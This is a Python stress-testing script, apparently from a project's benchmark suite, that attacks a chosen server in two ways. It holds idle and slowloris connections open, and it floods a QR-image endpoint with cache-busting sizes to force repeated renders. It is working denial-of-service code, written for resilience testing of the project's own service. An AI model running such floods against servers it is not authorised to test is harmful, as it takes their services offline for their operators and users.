#!/usr/bin/env python3
"""The attacker of bench/attack.sh: holds idle and slowloris connections open against a server,
and/or hammers its QR endpoint, until killed (SIGTERM) or for --seconds.

    attack.py HOST PORT [--idle N] [--slowloris N] [--qr N --key KEY --code CODE] [--seconds S]

Idle connections send nothing; slowloris ones send a request line, then one more header line
every 2 s and never finish. Both reconnect as soon as the server closes them, so that N stay
open (as far as the server lets them). QR clients loop on `GET /api/v1/links/CODE/qr?format=png`
with sizes cycling from 2048 down to 1024, one pixel at a time: about 60 MB of distinct images,
more than the server's 32 MB cache, so that most requests are renders. On exit it prints one
line: `ATTACK idle_held=.. slowloris_held=.. reconnects=.. qr_ok=.. qr_other=..`.
"""
import argparse
import asyncio
import signal

stats = {"reconnects": 0, "qr_ok": 0, "qr_other": 0}
held = {"idle": 0, "slowloris": 0}
samples = {"idle": [], "slowloris": []}


async def hold(host, port, kind, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        held[kind] += 1
        try:
            if kind == "slowloris":
                writer.write(b"GET /health/live HTTP/1.1\r\nHost: bench\r\n")
                await writer.drain()
            n = 0
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=2)
                    if not data:
                        break  # closed by the server
                except asyncio.TimeoutError:
                    pass
                if kind == "slowloris":
                    n += 1
                    writer.write(b"X-Slow-%d: x\r\n" % n)
                    await writer.drain()
        except OSError:
            pass
        finally:
            held[kind] -= 1
            writer.close()
        stats["reconnects"] += 1


async def hammer(host, port, key, code, stop, offset):
    size = 2048 - offset
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        try:
            while not stop.is_set():
                size = size - 1 if size > 1024 else 2048 - offset
                writer.write(
                    f"GET /api/v1/links/{code}/qr?format=png&size={size} HTTP/1.1\r\n"
                    f"Host: bench\r\nAuthorization: Bearer {key}\r\n\r\n".encode()
                )
                await writer.drain()
                head = await reader.readuntil(b"\r\n\r\n")
                status = int(head.split(b" ", 2)[1])
                length = 0
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:"):
                        length = int(line.split(b":")[1])
                await reader.readexactly(length)
                stats["qr_ok" if status == 200 else "qr_other"] += 1
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError):
            pass
        finally:
            writer.close()


async def sample(stop):
    while not stop.is_set():
        await asyncio.sleep(1)
        for kind in held:
            samples[kind].append(held[kind])


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--idle", type=int, default=0)
    p.add_argument("--slowloris", type=int, default=0)
    p.add_argument("--qr", type=int, default=0)
    p.add_argument("--key", default="")
    p.add_argument("--code", default="")
    p.add_argument("--seconds", type=float, default=3600)
    a = p.parse_args()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    tasks = [asyncio.create_task(hold(a.host, a.port, "idle", stop)) for _ in range(a.idle)]
    tasks += [asyncio.create_task(hold(a.host, a.port, "slowloris", stop)) for _ in range(a.slowloris)]
    tasks += [asyncio.create_task(hammer(a.host, a.port, a.key, a.code, stop, i)) for i in range(a.qr)]
    tasks.append(asyncio.create_task(sample(stop)))
    print("READY", flush=True)
    try:
        await asyncio.wait_for(stop.wait(), timeout=a.seconds)
    except asyncio.TimeoutError:
        stop.set()
    await asyncio.wait(tasks, timeout=5)
    avg = {k: (sum(v) / len(v) if v else 0) for k, v in samples.items()}
    print(
        f"ATTACK idle_held={avg['idle']:.0f} slowloris_held={avg['slowloris']:.0f} "
        f"reconnects={stats['reconnects']} qr_ok={stats['qr_ok']} qr_other={stats['qr_other']}",
        flush=True,
    )


if __name__ == "__main__":
    asyncio.run(main())
